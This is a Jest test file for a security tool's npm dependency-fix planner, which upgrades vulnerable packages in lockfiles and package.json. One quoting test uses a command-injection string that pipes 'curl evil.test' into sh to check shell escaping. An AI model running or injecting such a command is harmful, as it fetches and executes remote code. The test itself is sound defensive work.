import {readFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from '@jest/globals'
import {stripControl} from '@pipeguard/core'
import {EXTRACTORS} from '@pipeguard/inventory'
import {vulnerabilityFindings} from '../src/audit'
import {applyDirect, applyInPlace, upgradedRange} from '../src/remediation/apply-fixes'
import {parseNpmLock} from '../src/remediation/npm-lock-graph'
import {planFixes, type FixPlan} from '../src/remediation/plan-fixes'
import {createRegistryClient} from '../src/remediation/registry-client'
import {installCommand, renderFixPlan, shellWord} from '../src/remediation/render-fix-plan'
import {offlineSource} from '../src/sources/offline-db'
import {startFakeNpmRegistry, type FakeNpmRegistry} from './fake-npm-registry'
import {OSV_DIR, REPO_ROOT} from './osv-fixtures'

const TOOLKIT = join(REPO_ROOT, 'test', 'fixtures', 'inventory', 'npm', 'actions-toolkit-v2')
const APP = join(REPO_ROOT, 'test', 'fixtures', 'e2e', 'app')
const toolkitLock = readFileSync(join(TOOLKIT, 'package-lock.json'), 'utf8')
const appLock = readFileSync(join(APP, 'package-lock.json'), 'utf8')
const npmRecords = offlineSource(join(OSV_DIR, 'npm'))

let registry: FakeNpmRegistry
beforeAll(async () => {
  registry = await startFakeNpmRegistry()
})
afterAll(() => registry.close())

function plan(lockText: string, includeDev = true): Promise<FixPlan> {
  return planFixes({
    lockPath: 'package-lock.json',
    lockText,
    source: npmRecords,
    registry: createRegistryClient({registry: registry.url, scopes: {}, tokens: {}}),
    includeDev
  })
}

/** The audit's own findings for a lockfile text: the engine `pipeguard deps` runs. */
async function auditFindings(lockText: string): Promise<string[]> {
  const extractor = EXTRACTORS.find(e => e.name === 'javascript/package-lock')!
  const {packages} = await extractor.extract({
    path: 'package-lock.json',
    text: lockText,
    siblings: {}
  })
  const answer = await npmRecords.query(packages)
  return vulnerabilityFindings(packages, answer.records).map(
    f => `${f.package!.name}@${f.package!.version} ${f.ruleId}`
  )
}

describe('fix --deps plan on a real lockfile (actions/toolkit, package-lock v2)', () => {
  let full: FixPlan
  beforeAll(async () => {
    full = await plan(toolkitLock)
  }, 60_000)

  it('finds the vulnerable packages the audit finds, and nothing fails', async () => {
    expect(full.errors).toEqual([])
    const audited = new Set(await auditFindings(toolkitLock))
    const planned = new Set(
      full.vulnerable.flatMap(v => v.advisories.map(a => `${v.name}@${v.version} ${a}`))
    )
    expect(planned).toEqual(audited)
  })

  it('updates in place the packages every dependent allows a fixed version of', () => {
    const byLocation = new Map(full.inPlace.map(f => [f.location, f]))
    expect(byLocation.get('node_modules/ws')).toMatchObject({from: '7.5.5', to: '7.5.10'})
    expect(byLocation.get('node_modules/follow-redirects')).toMatchObject({to: '1.15.6'})
    expect(byLocation.get('node_modules/axios')).toMatchObject({from: '1.2.1', to: '1.6.0'})
    expect(byLocation.get('node_modules/ts-jest/node_modules/semver')).toMatchObject({
      from: '7.3.5',
      to: '7.5.2',
      fixes: ['GHSA-c2qf-rxjj-qqgw']
    })
  })

  it('moves a companion the fixed version needs, and fixes what waited for it', () => {
    const byLocation = new Map(full.inPlace.map(f => [f.location, f]))
    expect(byLocation.get('node_modules/braces')).toMatchObject({
      to: '3.0.3',
      fixes: ['GHSA-grv7-fg5c-xmjg']
    })
    expect(byLocation.get('node_modules/fill-range')).toMatchObject({
      from: '7.0.1',
      to: '7.1.1',
      fixes: [],
      requiredBy: 'braces 3.0.3'
    })
    expect(byLocation.get('node_modules/micromatch')).toMatchObject({from: '4.0.4', to: '4.0.8'})
    expect(byLocation.get('node_modules/picomatch')).toMatchObject({requiredBy: 'micromatch 4.0.8'})
  })

  it('never moves a package its dependent pins exactly; a direct upgrade removes it instead', () => {
    const pinned = 'node_modules/lerna/node_modules/semver'
    expect(full.inPlace.some(f => f.location === pinned)).toBe(false)
    const lerna = full.direct.find(u => u.name === 'lerna')!
    expect(lerna).toMatchObject({
      from: '5.6.2',
      field: 'devDependencies',
      breaking: true,
      relock: false
    })
    expect(lerna.fixes.some(f => f.path.join(' > ') === 'lerna > @nrwl/devkit > semver')).toBe(true)
    expect(installCommand(lerna)).toBe(`npm install --save-dev lerna@${lerna.to}`)
  })

  it('advises a relock where the ranges already allow a fixed version', () => {
    const relock = full.direct.filter(u => u.relock)
    expect(relock.flatMap(u => u.fixes.map(f => f.name))).toContain('@babel/traverse')
    expect(relock.every(u => u.from === u.to)).toBe(true)
    expect(installCommand(relock[0]!)).toMatch(/^npm update @babel\/traverse/)
  })

  it('does not move a companion that another dependent would refuse (tough-cookie needs universalify ^0.2.0)', () => {
    expect(full.inPlace.some(f => f.name === 'tough-cookie' || f.name === 'universalify')).toBe(
      false
    )
    const relock = full.direct.filter(u => u.relock).flatMap(u => u.fixes)
    expect(relock.some(f => f.name === 'tough-cookie' && f.version === '4.0.0')).toBe(true)
  })

  it('prints all relocks of a folder as one npm update', () => {
    const text = renderFixPlan(full, stripControl)
    expect(text.match(/^ {2}npm update .*$/gm)).toEqual([
      '  npm update @babel/traverse tough-cookie semver'
    ])
  })

  it('never updates in place a package bundled inside its parent', async () => {
    const lock = JSON.parse(toolkitLock)
    lock.packages['node_modules/ws'].inBundle = true
    const bundled = await plan(JSON.stringify(lock, null, 2))
    expect(bundled.inPlace.some(f => f.name === 'ws')).toBe(false)
    expect(full.inPlace.some(f => f.name === 'ws')).toBe(true)
  })

  it('leaves nothing without a fix', () => {
    expect(full.unfixed).toEqual([])
  })

  it('writes the in-place fixes so the audit no longer finds them', async () => {
    const written = applyInPlace(toolkitLock, full.inPlace)
    const before = await auditFindings(toolkitLock)
    const after = await auditFindings(written)
    const fixed = full.inPlace.flatMap(f => f.fixes.map(a => `${f.name}@${f.from} ${a}`))
    expect(fixed.length).toBeGreaterThan(0)
    for (const finding of [...new Set(fixed)]) {
      const remaining = full.inPlace.filter(f => `${f.name}@${f.from}` === finding.split(' ')[0])
      // Gone, unless another location of the same version was not updated in place.
      const others = before.filter(b => b === finding).length - remaining.length
      expect(after.filter(a => a === finding)).toHaveLength(Math.max(0, others))
    }
    expect(after.length).toBeLessThan(before.length)
  })

  it('rewrites the entries from the packument and keeps everything else byte-for-byte', () => {
    const written = applyInPlace(toolkitLock, full.inPlace)
    const lock = JSON.parse(written)
    expect(lock.packages['node_modules/braces']).toMatchObject({
      version: '3.0.3',
      resolved: 'https://registry.npmjs.org/braces/-/braces-3.0.3.tgz',
      integrity: expect.stringMatching(/^sha512-/),
      dependencies: {'fill-range': '^7.1.1'},
      dev: true
    })
    // v2 keeps the v1 tree for old npm: it moves with the packages map.
    expect(lock.dependencies.braces).toMatchObject({
      version: '3.0.3',
      requires: {'fill-range': '^7.1.1'}
    })
    const original = JSON.parse(toolkitLock)
    const touched = new Set(full.inPlace.map(f => f.location))
    for (const [location, entry] of Object.entries(original.packages)) {
      if (!touched.has(location)) expect(lock.packages[location]).toEqual(entry)
    }
    expect(written.split('\n').slice(0, 5)).toEqual(toolkitLock.split('\n').slice(0, 5))
    expect(written.endsWith('\n')).toBe(toolkitLock.endsWith('\n'))
  })

  it('plans nothing for development-only packages when deps.include-dev is false', async () => {
    const prodOnly = await plan(toolkitLock, false)
    expect(prodOnly.vulnerable).toEqual([])
    expect(renderFixPlan(prodOnly, stripControl)).toContain('Nothing to fix.')
  })
})

describe('fix --deps on direct dependencies pinned in package.json', () => {
  it('upgrades the pin and writes it into package.json with the same operator', async () => {
    const result = await plan(appLock)
    expect(result.inPlace).toEqual([])
    expect(result.direct.map(u => [installCommand(u), u.breaking])).toEqual([
      ['npm install lodash@4.17.21', false],
      ['npm install minimist@1.2.6', false]
    ])
    const manifest = readFileSync(join(APP, 'package.json'), 'utf8')
    const written = JSON.parse(applyDirect(manifest, '', result.direct))
    expect(written.dependencies).toEqual({lodash: '4.17.21', minimist: '1.2.6'})
  })

  it('says when no release fixes it, naming the package', async () => {
    const lodash = JSON.parse(
      readFileSync(
        join(REPO_ROOT, 'test', 'fixtures', 'remediation', 'registry', 'lodash.json'),
        'utf8'
      )
    )
    lodash.versions = {'4.17.20': lodash.versions['4.17.20']}
    registry.override.set('lodash', {status: 200, body: JSON.stringify(lodash)})
    try {
      const result = await plan(appLock)
      expect(result.unfixed.map(u => [u.name, u.reason])).toEqual([
        [
          'lodash',
          expect.stringMatching(
            /no newer version than 4\.17\.20 is published; .*no newer release than 4\.17\.20/
          )
        ]
      ])
    } finally {
      registry.override.delete('lodash')
    }
  })

  it('reports a packument it cannot read as an error, not as a clean plan', async () => {
    registry.override.set('minimist', {status: 500})
    try {
      const result = await plan(appLock)
      expect(result.errors.map(e => e.message)).toEqual([
        expect.stringMatching(/^minimist: .*minimist: answered HTTP 500$/)
      ])
      expect(result.direct.map(u => u.name)).toEqual(['lodash'])
      expect(renderFixPlan(result, stripControl)).toContain(
        'Incomplete: not everything could be checked'
      )
    } finally {
      registry.override.delete('minimist')
    }
  })
})

describe('printed commands', () => {
  it('quotes anything from the lockfile that is not a plain npm name or version', () => {
    expect(shellWord('@babel/traverse@7.23.2')).toBe('@babel/traverse@7.23.2')
    expect(shellWord('x; curl evil.test | sh')).toBe("'x; curl evil.test | sh'")
    expect(shellWord("a'b")).toBe("'a'\\''b'")
  })
})

describe('range rewriting and bad lockfiles', () => {
  it.each([
    ['^1.2.3', '^2.0.0'],
    ['~1.2', '~2.0.0'],
    ['1.2.3', '2.0.0'],
    ['>=1', '>=2.0.0'],
    ['latest', '^2.0.0']
  ])('%s becomes %s', (range, expected) => {
    expect(upgradedRange(range, '2.0.0')).toBe(expected)
  })

  it.each([
    ['{', /package-lock\.json: not valid JSON/],
    ['[]', /expected a JSON object at the top level/],
    [
      readFileSync(
        join(
          REPO_ROOT,
          'test',
          'fixtures',
          'inventory',
          'npm',
          'actions-toolkit-v1',
          'package-lock.json'
        ),
        'utf8'
      ),
      /lockfileVersion 1 has no "packages" map; fix --deps reads package-lock\.json v2 and v3/
    ],
    [
      '{"lockfileVersion":3,"packages":{"node_modules/a":7}}',
      /packages\["node_modules\/a"\]: expected an object/
    ],
    [
      '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":1}}}',
      /\.version: expected a string/
    ]
  ])('rejects a bad lockfile with a message naming it (%#)', async (text, message) => {
    expect(parseNpmLock(text, 'package-lock.json')).toEqual({
      path: 'package-lock.json',
      message: expect.stringMatching(message)
    })
    const result = await plan(text)
    expect(result.errors).toHaveLength(1)
    expect(result.vulnerable).toEqual([])
  })
})
